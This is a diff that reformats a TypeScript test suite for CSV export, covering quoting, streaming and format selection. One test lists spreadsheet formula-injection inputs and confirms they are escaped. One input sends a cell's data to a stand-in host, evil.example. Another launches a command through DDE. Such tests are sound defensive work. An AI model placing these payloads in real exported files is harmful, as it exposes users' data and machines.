@@ -10,13 +10,24 @@ async function drain(stream: NodeJS.ReadableStream): Promise<string> {
 
 describe('CSV export', () => {
   it('should quote only fields holding a quote, comma or line break, doubling inner quotes', () => {
-    expect(csvLine(['plain', 'a,b', 'say "hi"', 'x\ny', 'x\ry', 'x\r\ny', '', null, undefined, 12, true]))
-      .toBe('plain,"a,b","say ""hi""","x\ny","x\ry","x\r\ny",,,,12,true\r\n');
+    expect(csvLine(['plain', 'a,b', 'say "hi"', 'x\ny', 'x\ry', 'x\r\ny', '', null, undefined, 12, true])).toBe(
+      'plain,"a,b","say ""hi""","x\ny","x\ry","x\r\ny",,,,12,true\r\n',
+    );
   });
 
   it('should neutralise every cell a spreadsheet would evaluate, and leave plain numbers numbers', () => {
-    const evil = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+1', '-2+3+cmd|\'/C calc\'!A0', '@SUM(A1)', '\tx', '\rx',
-      '\uFF1D1+1', '\uFF0B1', '\uFF0D1', '\uFF20x'];
+    const evil = [
+      '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+      '+1+1',
+      "-2+3+cmd|'/C calc'!A0",
+      '@SUM(A1)',
+      '\tx',
+      '\rx',
+      '\uFF1D1+1',
+      '\uFF0B1',
+      '\uFF0D1',
+      '\uFF20x',
+    ];
     const [row] = parseCsv(csvLine(evil));
     expect(row).toEqual(evil.map((v) => `'${v}`));
     const plain = ['-50.25', '-7', '12.00', 'a-b', "'quoted", '1e5'];
@@ -27,9 +38,12 @@ describe('CSV export', () => {
     const unit = fc.constantFrom('a', 'Z', ' ', '"', ',', '\r', '\n', 'é', '₹', '\t', "'", '=', '-', '+', '@', '1');
     const text = fc.string({ unit, maxLength: 12 });
     const shown = (v: string) => (/^[=+\-@\t\r]/.test(v) && !/^-\d+(\.\d+)?$/.test(v) ? `'${v}` : v);
-    fc.assert(fc.property(fc.array(fc.array(text, { minLength: 1, maxLength: 5 }), { minLength: 1, maxLength: 5 }), (rows) => {
-      expect(parseCsv(rows.map(csvLine).join(''))).toEqual(rows.map((r) => r.map(shown)));
-    }), { numRuns: 500 });
+    fc.assert(
+      fc.property(fc.array(fc.array(text, { minLength: 1, maxLength: 5 }), { minLength: 1, maxLength: 5 }), (rows) => {
+        expect(parseCsv(rows.map(csvLine).join(''))).toEqual(rows.map((r) => r.map(shown)));
+      }),
+      { numRuns: 500 },
+    );
   });
 
   it('should choose CSV from ?format first, then from an Accept that names text/csv above JSON', () => {
@@ -46,7 +60,13 @@ describe('CSV export', () => {
   it('should stream every page after a header, and fail the stream (not end it) when a later page fails', async () => {
     const pages = [[1, 2], [3], [4]];
     const list = (failAt: number | null) => ({
-      start: null, limit: 50, csv: csvOf<number>([['n', (n) => n], ['half', (n) => n / 2]]), encode: String,
+      start: null,
+      limit: 50,
+      csv: csvOf<number>([
+        ['n', (n) => n],
+        ['half', (n) => n / 2],
+      ]),
+      encode: String,
       fetch: async (cursor: number | null) => {
         const i = cursor ?? 0;
         if (i === failAt) throw new Error('database went away');
